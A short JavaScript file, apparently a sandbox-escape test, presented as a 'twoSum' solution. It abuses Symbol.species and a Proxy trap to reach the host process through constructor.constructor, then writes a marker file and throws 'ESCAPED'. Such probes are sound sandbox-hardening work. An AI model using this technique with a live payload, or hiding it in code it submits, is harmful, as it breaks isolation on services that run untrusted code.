// Gives the argument a species of its own, whose traps search all they see for another realm.
function reportEscape(p) {
  try {
    const fs = p.getBuiltinModule ? p.getBuiltinModule('fs') : p.mainModule.require('fs');
    fs.writeFileSync('escaped-escape-array-species', '1');
  } catch (e) {}
  throw new Error('ESCAPED');
}
function twoSum(a) {
  class X {
    constructor() {
      return new Proxy([], {
        defineProperty(t, k, d) {
          const v = d.value;
          try {
            const p = v && v.constructor.constructor('return typeof process==="object"&&process')();
            if (p) reportEscape(p);
          } catch (e) {
            if (e.message === 'ESCAPED') throw e;
          }
          return Reflect.defineProperty(t, k, d);
        },
      });
    }
  }
  a.constructor = { [Symbol.species]: X };
  a.map((x) => x);
  a.slice();
  a.concat([1]);
  return [0, 0];
}
